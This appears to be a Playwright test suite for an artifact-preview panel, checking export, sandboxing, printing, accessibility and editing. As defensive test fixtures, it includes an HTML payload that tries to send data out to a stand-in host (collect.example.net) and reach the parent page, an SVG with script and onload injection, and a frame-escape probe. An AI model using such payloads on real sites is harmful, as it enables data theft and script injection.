import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import type { Frame, Page } from 'playwright-core';
import { isThorough } from '../property-runs.js';
import { findComplaints } from './axe-complaints.js';
import { DemoSite, eventually, type EmptyPageOptions, type Visit } from './demo-server.js';
import { waitForStillPage } from './still-page.js';

/** A page with nothing but a panel, opened on an artifact. */
async function openPanel(
  site: DemoSite,
  type: string,
  contents: readonly string[],
  options: EmptyPageOptions & { title?: string } = {},
): Promise<Visit> {
  const { title = 'Planner', ...rest } = options;
  const visit = await site.openEmpty(rest);
  await visit.page.evaluate(
    async ({ type, contents, title }) => {
      const kit = '/dist/cdn/vitrine.js';
      const { HeadlessController } = (await import(kit)) as { HeadlessController: new (options: object) => never };
      const headless = new HeadlessController({ storage: 'memory' }) as unknown as {
        startMessage(options: object): string;
        appendText(id: string, text: string): void;
        endMessage(id: string): void;
        artifacts: Map<string, { id: string; title: string }>;
        openArtifact(id: string, place: { isAsked: boolean }): void;
      };
      const add = (kind: string, name: string, ...texts: string[]): string => {
        for (const text of texts) {
          const id = headless.startMessage({ role: 'assistant' });
          headless.appendText(
            id,
            `A calmer version.\n\n<artifact type="${kind}" ` +
              `title="${name}"${kind === 'code' ? ' language="javascript"' : ''}>${text}</artifact>`,
          );
          headless.endMessage(id);
        }
        return [...headless.artifacts.values()].find((each) => each.title === name)!.id;
      };
      const main = document.createElement('main');
      const heading = document.createElement('h1');
      heading.textContent = 'Story';
      const panel = Object.assign(document.createElement('artifact-panel'), { headless });
      main.append(heading, panel);
      document.body.append(main);
      Object.assign(globalThis, { headless, add });
      headless.openArtifact(add(type, title, ...contents), { isAsked: true });
    },
    { type, contents, title },
  );
  // One view alone has no tabs.
  await visit.page.locator('artifact-panel [part=content], artifact-panel [role=tab]').first().waitFor();
  return visit;
}

const tab = (page: Page, name: string) => page.locator(`artifact-panel #tab-${name}`).click();
const running = (page: Page) => page.locator('artifact-panel .foot', { hasText: /Running/ }).waitFor();

async function choose(page: Page, item: RegExp): Promise<void> {
  await page.locator('artifact-panel .foot [aria-haspopup=menu]').click();
  await page.locator('artifact-panel [role^=menuitem]').filter({ hasText: item }).first().click();
}

/** Text in the innermost frame of a page. */
async function innermost(page: Page): Promise<Frame> {
  await eventually('the inner frame is there', () => Promise.resolve(page.frames().length >= 3));
  return page.frames().at(-1)!;
}

const COUNTER = `import { useState } from 'react';
export default function App() { const [n, set] = useState(0); return <button onClick={() => set(n + 1)}>Count {n}</button>; }`;

describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
  let site: DemoSite;
  let folder: string;
  before(
    async () => {
      site = await DemoSite.start();
      folder = await mkdtemp(path.join(os.tmpdir(), 'vitrine-export-'));
    },
    { timeout: 120_000 },
  );
  after(async () => {
    site?.stop();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  async function exported(page: Page, item: RegExp): Promise<{ name: string; text: string; file: string }> {
    const downloaded = page.waitForEvent('download');
    await choose(page, item);
    const download = await downloaded;
    const file = path.join(folder, `${Date.now()}-${download.suggestedFilename()}`);
    await download.saveAs(file);
    return { name: download.suggestedFilename(), text: await readFile(file, 'utf8'), file };
  }

  /** Opens a file from the disk, and says every request that it made, and every line that it wrote. */
  async function fromDisk(file: string) {
    const context = await site.browser.newContext();
    const requests: string[] = [];
    context.on('request', (request) => {
      if (!/^(?:data|blob|about):/.test(request.url())) requests.push(request.url());
    });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    const lines: string[] = [];
    page.on('console', (line) => lines.push(line.text()));
    await page.goto(pathToFileURL(file).href);
    return { page, requests, errors, lines, close: () => context.close() };
  }

  it('a React artifact saved as a page runs from the disk and asks for nothing', async () => {
    const { page, close } = await openPanel(site, 'react', [COUNTER]);
    await running(page);
    const { name, file } = await exported(page, /^\s*Save as web page\s*$/);
    assert.equal(name, 'Planner.html');
    const opened = await fromDisk(file);
    const button = opened.page.frameLocator('iframe').locator('button');
    await button.click();
    await opened.page.frameLocator('iframe').locator('button', { hasText: 'Count 1' }).waitFor();
    assert.equal(await opened.page.locator('iframe').getAttribute('sandbox'), 'allow-scripts allow-forms');
    assert.deepEqual(opened.requests, [pathToFileURL(file).href]);
    assert.deepEqual(opened.errors, []);
    await opened.close();
    await close();
  });

  it('an html artifact that tries to leave its exported page gets nowhere', async () => {
    const hostile = `<h1 id="t">Mine</h1><img src="https://collect.example.net/i.png"><link
      rel="stylesheet" href="https://collect.example.net/s.css">
<script>fetch('https://collect.example.net/f').catch(() => {}); new Image().src = 'https://collect.example.net/j';
try { parent.document.title = 'taken'; document.querySelector('#t').textContent = 'reached the page'; }
  catch { document.querySelector('#t').textContent = 'alone'; }
try { navigator.sendBeacon('https://collect.example.net/b'); } catch {}
setTimeout(() => { console.log('leaves'); try { location.href = 'https://collect.example.net/n'; } catch {} }, 2_000);</script>`;
    const { page, close } = await openPanel(site, 'html', [hostile]);
    await running(page);
    const { file } = await exported(page, /^\s*Save as web page\s*$/);
    await close();
    const seen = site.collected.length;
    const opened = await fromDisk(file);
    await opened.page.frameLocator('iframe').locator('#t', { hasText: 'alone' }).waitFor();
    await eventually('it has tried all of it', () => Promise.resolve(opened.lines.includes('leaves')));
    await opened.page.waitForTimeout(1_000); // what does not arrive can only be waited for
    assert.equal(await opened.page.title(), 'Planner');
    assert.deepEqual(
      opened.requests.filter((url) => url !== pathToFileURL(file).href && !url.startsWith('chrome-error')),
      opened.requests.filter((url) => /collect/.test(url)),
    );
    assert.equal(site.collected.length, seen, 'no connection was made');
    await opened.close();
  });

  it('an exported page says what it asks, in the language it was saved in, and saves after a press', async () => {
    const asks = `<button>Go</button><script>document.querySelector('button').onclick = () => {
      confirm('Tout supprimer ?'); console.log(localStorage.length); print();
      const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['a,b'])); a.download = 'seats.csv'; a.click();
    }</script>`;
    const { page, close } = await openPanel(site, 'html', [asks], { lang: 'fr' });
    await page.locator('artifact-panel .foot .ok').waitFor();
    const { file } = await exported(page, /^\s*Enregistrer en page web\s*$/);
    await close();
    const opened = await fromDisk(file);
    await opened.page.frameLocator('iframe').locator('button').click();
    await eventually('it says all of it', async () => (await opened.page.locator('[data-asked]').count()) === 3);
    assert.deepEqual((await opened.page.locator('[data-asked] span').allTextContents()).sort(), [
      'L’aperçu a demandé : « Tout supprimer ? » Un aperçu ne peut pas attendre de réponse : cela a compté comme « non ».',
      'L’aperçu veut enregistrer seats.csv.',
      'L’aperçu veut être imprimé.',
    ]);
    const saved = opened.page.waitForEvent('download');
    await opened.page.getByRole('button', { name: 'Enregistrer' }).click();
    assert.equal((await saved).suggestedFilename(), 'seats.csv');
    assert.deepEqual(opened.errors, []);
    await opened.close();
  });

  it('a page with all versions holds them for import, and nothing in it reads them', async () => {
    const { page, close } = await openPanel(site, 'html', ['<p>one</p>', '<p>two</p><!-- </script> -->']);
    await running(page);
    const { text, file } = await exported(page, /with all versions/);
    const [, json = ''] =
      /<script type="application\/json" id="vitrine-conversations">(.*?)<\/script>/s.exec(text) ?? [];
    const kept = JSON.parse(json) as {
      format: string;
      schema: number;
      conversations: { artifacts: { versions: { content: string }[] }[] }[];
    };
    assert.deepEqual([kept.format, kept.schema], ['vitrine-conversations', 1]);
    assert.deepEqual(
      kept.conversations[0]!.artifacts[0]!.versions.map(({ content }) => content),
      ['<p>one</p>', '<p>two</p><!-- </script> -->'],
    );
    const opened = await fromDisk(file);
    await opened.page.frameLocator('iframe').locator('p', { hasText: 'two' }).waitFor();
    await opened.close();
    await close();
  });

  it('a picture is saved sanitised, and as points in the size that was asked for', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" ' +
      'onload="alert(1)"><style>rect{fill:red}</style><rect width="120" ' +
      'height="80"/><script>alert(1)</script><image href="https://collect.example.net/x.png"/></svg>';
    const { page, strangers, close } = await openPanel(site, 'svg', [svg], { title: 'Logo' });
    await page.locator('artifact-panel #zoom-in').waitFor();
    const { text, name } = await exported(page, /SVG/);
    assert.equal(name, 'Logo.svg');
    assert.doesNotMatch(text, /script|onload|collect/);
    assert.match(text, /width="120" height="80"/);
    assert.match(text, /fill:\s*red/);
    const size = (file: string) =>
      page.evaluate(
        async (bytes) => {
          const image = await createImageBitmap(new Blob([new Uint8Array(bytes)], { type: 'image/png' }));
          return [image.width, image.height];
        },
        [...(file as unknown as Buffer)],
      );
    for (const [item, wanted] of [
      [/PNG\s*2×/, [240, 160]],
      [/PNG\s*1×/, [120, 80]],
      [/PNG\s*3×/, [360, 240]],
    ] as const) {
      const { file } = await exported(page, item);
      assert.deepEqual(await size((await readFile(file)) as unknown as string), [...wanted]);
    }
    assert.deepEqual(strangers, []);
    await close();
  });

  it('a new window holds nothing but the sandboxed frame, and reaches neither the window nor the page', async () => {
    const probe =
      `<p id="t">…</p><script>const say = []; for (const [name, get] of [['parent', () => ` +
      `parent.document], ['top', () => top.document], ['opener', () => top.opener && ` +
      `top.opener.document]]) { try { const x = get(); say.push(name + ':' + (x ? 'reached' : ` +
      `'none')); } catch { say.push(name + ':refused'); } } document.querySelector('#t').textContent = ` +
      `say.join(' ') + ' ' + origin;</script>`;
    const { page, popups, close } = await openPanel(site, 'html', [probe]);
    await running(page);
    await page.locator('artifact-panel #tool-window').click();
    await eventually('a window opened', () => Promise.resolve(popups.length === 1));
    const window = popups[0]!;
    await eventually(
      'it shows the preview',
      async () => (await (await innermost(window)).locator('#t').textContent())?.includes('null') === true,
    );
    assert.match(
      (await (await innermost(window)).locator('#t').textContent())!,
      /^parent:refused top:refused opener:(?:none|refused) null$/,
    );
    assert.deepEqual(
      await window.evaluate(() => [
        document.title,
        document.body.children.length,
        document.body.children[0]!.localName,
        document.body.children[0]!.getAttribute('sandbox'),
      ]),
      ['Planner', 1, 'iframe', 'allow-scripts allow-forms'],
    );
    await close();
  });

  it('says so when the browser blocks the window', async () => {
    const { page, close } = await openPanel(site, 'html', ['<p>Hi</p>'], {
      before: () => void (window.open = () => null),
    });
    await running(page);
    await page.locator('artifact-panel #tool-window').click();
    await page
      .locator('artifact-panel [role=alert]', { hasText: 'The browser blocked the new window. Allow pop-ups' })
      .or(page.locator('artifact-panel [role=alert]', { hasText: 'Allow pop-ups for this site' }))
      .first()
      .waitFor();
    await close();
  });

  it('prints a window whose frame is as high as its content, at most 20,000 px', async () => {
    for (const [content, wanted] of [
      [5_000, 5_000],
      [30_000, 20_000],
    ] as const) {
      const { page, popups, close } = await openPanel(
        site,
        'html',
        [`<style>body{margin:0}</style><div style="height:${content}px">tall</div>`],
        {
          before: () => {
            const open = window.open.bind(window);
            window.open = (...rest) => {
              const view = open(...rest);
              if (view)
                view.print = () =>
                  void ((view as unknown as { printed: number }).printed =
                    view.document.querySelector('iframe')!.clientHeight);
              return view;
            };
          },
        },
      );
      await running(page);
      await choose(page, /Print/);
      await eventually('a window opened', () => Promise.resolve(popups.length === 1));
      await eventually(
        'it was printed',
        async () =>
          (await popups[0]!.evaluate(() => (window as unknown as { printed?: number }).printed ?? 0)) === wanted,
      );
      await close();
    }
  });

  it('leaves window, print and export to a host that cancels them', async () => {
    const { page, popups, close } = await openPanel(site, 'html', ['<p>Hi</p>']);
    await running(page);
    await page.evaluate(() => {
      const asked: string[] = [];
      Object.assign(globalThis, { asked });
      for (const type of ['artifact-window-open-request', 'artifact-print-request', 'artifact-export-request']) {
        document.addEventListener(type, (event) => {
          event.preventDefault();
          const { fileName = '' } = (event as CustomEvent<{ fileName?: string }>).detail;
          asked.push(`${type} ${fileName}`.trim());
        });
      }
    });
    await page.locator('artifact-panel #tool-window').click();
    await choose(page, /Print/);
    await choose(page, /Save as web page/);
    await eventually('all were asked', () =>
      page.evaluate(() => (globalThis as unknown as { asked: string[] }).asked.length === 3),
    );
    assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { asked: string[] }).asked), [
      'artifact-window-open-request',
      'artifact-print-request',
      'artifact-export-request Planner.html',
    ]);
    assert.equal(popups.length, 0);
    await close();
  });

  it('edits in colours under a strict policy of the page, and Tab leaves the editor', async () => {
    const policy =
      "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data: " +
      "blob:; connect-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify " +
      'vitrine';
    const { page, errors, close } = await openPanel(site, 'code', ['const a = 1;'], { policy });
    await page.locator('artifact-panel #tool-edit').click();
    await page.locator('artifact-panel .cm-content').waitFor();
    await page.locator('artifact-panel .cm-content').click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('// mine\n');
    const colour = () =>
      page
        .locator('artifact-panel .cm-line')
        .first()
        .evaluate((line) => (line.querySelector('span') ? getComputedStyle(line.querySelector('span')!).color : ''));
    await eventually('the comment is coloured', async () => /^rgb\((?!0, 0, 0)/.test(await colour()));
    await page.keyboard.press('Tab');
    assert.equal(
      await page
        .locator('artifact-panel .cm-content')
        .evaluate((content) => (content.getRootNode() as ShadowRoot).activeElement === content),
      false,
    );
    await page.locator('artifact-panel .cm-content').click();
    await page.keyboard.press('Control+s');
    await page.locator('artifact-panel .head', { hasText: 'Version 2 of 2' }).waitFor();
    assert.deepEqual(errors, []);
    await close();
  });

  const HISTORY = [COUNTER, `${COUNTER}\n// two`, COUNTER.replace('Count', 'Clicked')];
  const views: readonly [string, (page: Page) => Promise<void>][] = [
    ['versions', (page) => tab(page, 'versions')],
    [
      'diff',
      async (page) => {
        const wide = (await page.locator('artifact-panel #tab-diff').count()) > 0;
        await tab(page, wide ? 'diff' : 'versions');
        if (!wide) await page.locator('artifact-panel .foot .btn', { hasText: /^\s*Compar/ }).click();
        await page.locator('artifact-panel .diff').waitFor();
      },
    ],
    [
      'editor',
      async (page) => {
        await tab(page, 'code');
        const edit = page.locator('artifact-panel #tool-edit');
        if (await edit.count()) await edit.click();
        else {
          await page.locator('artifact-panel .foot [aria-haspopup=menu]').click();
          await page.locator('artifact-panel [role=menuitem]').first().click();
        }
        await page.locator('artifact-panel .cm-content').waitFor();
      },
    ],
  ];
  const looks: readonly [string, EmptyPageOptions][] = [
    ['wide and light', {}],
    ['dark, right to left', { colorScheme: 'dark', dir: 'rtl' }],
    ['in French at 320 px', { viewport: { width: 320, height: 640 }, lang: 'fr', hasTouch: true }],
  ];
  for (const [view, [name, arrange]] of views.entries()) {
    // In the gate two of the three for each view, in turn: the editor and the diff look different on a phone.
    for (const [where, options] of looks.filter((_, look) => isThorough || (look + 1) % looks.length !== view)) {
      it(`axe finds nothing in ${name}, ${where}, and nothing sticks out`, async () => {
        const visit = await openPanel(site, 'react', HISTORY, { reducedMotion: 'reduce', ...options });
        const { page, close } = visit;
        await arrange(page);
        await waitForStillPage(visit);
        assert.deepEqual(await findComplaints(page), []);
        const outside = await page.evaluate(() => {
          const root = document.querySelector('artifact-panel')!.shadowRoot!;
          const box = root.querySelector('.case')!.getBoundingClientRect();
          return [...root.querySelectorAll('.head *, .toolbar *, .foot *, .versions *')]
            .filter((each) => !each.closest('.vh') && getComputedStyle(each).position !== 'absolute')
            .map((each) => ({
              name: `${each.localName}.${each.className.toString()}`,
              ...(each.getBoundingClientRect().toJSON() as DOMRect),
            }))
            .filter(({ left, right, width }) => width > 0 && (left < box.left - 1 || right > box.right + 1))
            .map(({ name: each }) => each);
        });
        assert.deepEqual(outside, []);
        await close();
      });
    }
  }

  it('zooms and moves a diagram by keys, wheel and buttons, and its words stand in order from right to left', async () => {
    const { page, close } = await openPanel(
      site,
      'mermaid',
      ['flowchart LR\nA[Weigh the beans] --> B[Heat to 94 °C]'],
      { dir: 'rtl' },
    );
    const percent = async () =>
      Number((await page.locator('artifact-panel .percent').textContent())!.replace(/\D/g, ''));
    await page.locator('artifact-panel #zoom-in').waitFor();
    const before = await percent();
    await page.locator('artifact-panel #zoom-in').click();
    await eventually('it is larger', async () => (await percent()) > before);
    const picture = page.locator('artifact-mermaid .picture');
    await picture.focus();
    const left = () =>
      picture.evaluate((element) => element.shadowRoot!.querySelector('div')!.getBoundingClientRect().left);
    const at = await left();
    await page.keyboard.press('ArrowRight');
    assert.equal(Math.round(at - (await left())), 40);
    await page.keyboard.press('0');
    assert.equal(await percent(), 100);
    for (let presses = 0; presses < 30; presses += 1) await page.keyboard.press('+');
    assert.equal(await percent(), 800);
    for (let presses = 0; presses < 40; presses += 1) await page.keyboard.press('-');
    assert.equal(await percent(), 10);
    const box = (await picture.boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.keyboard.down('Control');
    await page.mouse.wheel(0, -100);
    await page.keyboard.up('Control');
    await eventually('the wheel zoomed', async () => (await percent()) > 10);
    await page.locator('artifact-panel #zoom-fit').click();
    assert.equal(
      await picture.evaluate((element) => getComputedStyle(element.shadowRoot!.querySelector('svg')!).direction),
      'ltr',
    );
    await close();
  });
});
